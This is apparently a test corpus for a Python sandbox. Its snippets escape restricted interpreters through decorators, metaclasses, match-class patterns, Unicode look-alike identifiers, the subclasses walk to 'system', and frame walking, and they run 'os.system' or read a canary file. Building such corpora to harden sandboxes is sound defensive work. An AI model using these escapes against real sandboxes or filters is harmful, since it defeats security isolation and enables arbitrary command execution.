"""Syntax that calls or looks up without saying so: decorators, metaclasses, patterns, odd identifiers."""

from sandbox.attack import BUILTIN, FILE, gadget

UNDER = "\uff3f"
ITALIC = str.maketrans("abcdefghijklmnopqrstuvwxyz", "".join(chr(0x1D622 + offset) for offset in range(26)))

SYNTAX = (
    gadget(
        "decorator-eval",
        "metaclass and decorator calls",
        r"""
@eval
@lambda f: "__import__('os').system('touch ' + MARKER)"
def run():
    pass
""",
    ),
    gadget(
        "decorators-open-and-print",
        "metaclass and decorator calls",
        r"""
@print
@list
@open
@lambda kind: CANARY
class Leak:
    pass
""",
        ends=FILE,
        sees=(FILE, BUILTIN),
        alone=False,
    ),
    gadget(
        "metaclass-keyword",
        "metaclass and decorator calls",
        r"""
def meta(name, bases, space):
    return len.__self__.open(CANARY).read()
class Leak(metaclass=meta):
    pass
print("LEAK:", Leak)
""",
        ends=FILE,
    ),
    gadget(
        "metaclass-call-is-exec",
        "metaclass and decorator calls",
        r"""
class Meta(type):
    __getitem__ = staticmethod(len.__self__.exec)
class Run(metaclass=Meta):
    pass
Run["import os; os.system('touch " + MARKER + "')"]
""",
        sees=(BUILTIN, FILE),
    ),
    gadget(
        "class-getitem-in-a-loop",
        "metaclass and decorator calls",
        r"""
class A:
    pass
[None for A.__class_getitem__ in [len.__self__.eval]]
A["__import__('os').system('touch " + MARKER + "')"]
""",
        sees=(BUILTIN, FILE),
    ),
    gadget(
        "init-subclass-and-set-name",
        "metaclass and decorator calls",
        r"""
class Base:
    def __init_subclass__(cls, run=None):
        cls.got = run("os")
class Below(Base, run=len.__self__.__import__):
    pass
Below.got.system("touch " + MARKER)
""",
    ),
    gadget(
        "operator-is-exec",
        "metaclass and decorator calls",
        r"""
class Run(str):
    __neg__ = lambda self: len.__self__.exec(str(self))
-Run("import os; os.system('touch " + MARKER + "')")
""",
        sees=(BUILTIN, FILE),
    ),
    gadget(
        "mro-entries",
        "metaclass and decorator calls",
        r"""
class Entry:
    def __mro_entries__(self, bases):
        len.__self__.open(CANARY)
        return ()
class A(Entry()):
    pass
""",
        ends=FILE,
        alone=False,
    ),
    gadget(
        "match-class-attributes",
        "match-class",
        r"""
match ():
    case object(__class__=object(__base__=object(__subclasses__=list_them))):
        for kind in list_them():
            match kind:
                case object(__name__="_wrap_close", __init__=object(__globals__=space)):
                    space["system"]("touch " + MARKER)
""",
    ),
    gadget(
        "match-class-of-a-builtin",
        "match-class",
        r"""
match len:
    case object(__self__=found):
        print("LEAK:", found.open(CANARY).read())
""",
        ends=FILE,
    ),
    gadget(
        "match-args-of-own-class",
        "match-class",
        r"""
class Meta(type):
    def __instancecheck__(cls, other):
        return True
class Look(metaclass=Meta):
    __match_args__ = ("__self__",)
match len:
    case Look(found):
        found.__import__("os").system("touch " + MARKER)
""",
    ),
    gadget(
        "match-args-built-from-parts",
        "match-class",
        r"""
class Meta(type):
    def __instancecheck__(cls, other):
        return True
Look = Meta("Look", (), {"__match_" + "args__": ("__se" + "lf__",)})
match len:
    case Look(found):
        print("LEAK:", found.open(CANARY).read())
""",
        ends=FILE,
    ),
    gadget(
        "wide-underscores",
        "unicode identifiers",
        f"""
for kind in ()._{UNDER}class_{UNDER}._{UNDER}base_{UNDER}._{UNDER}subclasses_{UNDER}():
    if "_wrap_close" in str(kind):
        kind._{UNDER}init_{UNDER}._{UNDER}globals_{UNDER}["system"]("touch " + MARKER)
""",
    ),
    gadget(
        "italic-eval",
        "unicode identifiers",
        f"""{"eval".translate(ITALIC)}("__import__('os').system('touch ' + MARKER)")""",
    ),
    gadget(
        "italic-open",
        "unicode identifiers",
        f"""print("LEAK:", {"open".translate(ITALIC)}(CANARY).read())""",
        ends=FILE,
        sees=(FILE, BUILTIN),
    ),
    gadget(
        "italic-import-of-os",
        "unicode identifiers",
        f"""import {"os".translate(ITALIC)}\nos.system("touch " + MARKER)""",
        sees=(FILE,),
    ),
    gadget(
        "italic-keyword-in-a-pattern",
        "unicode identifiers",
        f"""
match len:
    case object(_{UNDER}self_{UNDER}=found):
        print("LEAK:", found.open(CANARY).read())
""",
        ends=FILE,
    ),
    gadget(
        "walrus-and-lambda-golf",
        "subclasses walk",
        r"""
(b := ().__class__.__mro__[1]) and [k.__init__.__globals__["system"]("touch " + MARKER)
 for k in b.__subclasses__() if "wrap_c" in k.__name__]
""",
    ),
    gadget(
        "augmented-assignment-of-a-dunder",
        "__code__.replace",
        r"""
def f():
    return len.__self__.open(CANARY).read()
def g():
    return 1
g.__code__, g.extra = f.__code__, 1
g.extra += g.__defaults__ is None
print("LEAK:", g())
""",
        ends=FILE,
    ),
    gadget(
        "star-args-and-keywords-to-type",
        "metaclass and decorator calls",
        r"""
call, show = lambda self, *a: len.__self__.open(*a), lambda self: self(CANARY).read()
kind = type("A", (), {"__call__": call, "__str__": show})
print("LEAK:", kind())
""",
        ends=FILE,
    ),
    gadget(
        "match-args-by-prepare",
        "match-class",
        r"""
class Meta(type):
    def __instancecheck__(cls, other):
        return True
    def __prepare__(name, bases):
        return {"__match_" + "args__": ("__se" + "lf__",)}
class Look(metaclass=Meta):
    pass
match len:
    case Look(found):
        print("LEAK:", found.open(CANARY).read())
""",
        ends=FILE,
    ),
    gadget(
        "match-args-of-a-named-tuple",
        "match-class",
        r"""
import collections
class Meta(type):
    def __instancecheck__(cls, other):
        return True
def look(name):
    return Meta("Look", (collections.namedtuple("Named", [name]),), {})
Frame, Back, Builtins = look("gi" + "_frame"), look("f" + "_back"), look("f" + "_builtins")
def step():
    match steps:
        case Frame(frame):
            yield frame
steps = step()
frame = next(steps)
def walk():
    match walking:
        case Frame(frame):
            while frame is not None:
                match frame:
                    case Builtins(space):
                        if "open" in space:
                            yield space["open"](CANARY).read()
                match frame:
                    case Back(frame):
                        pass
walking = walk()
for found in walking:
    print("LEAK:", found)
    break
""",
        ends=FILE,
    ),
)
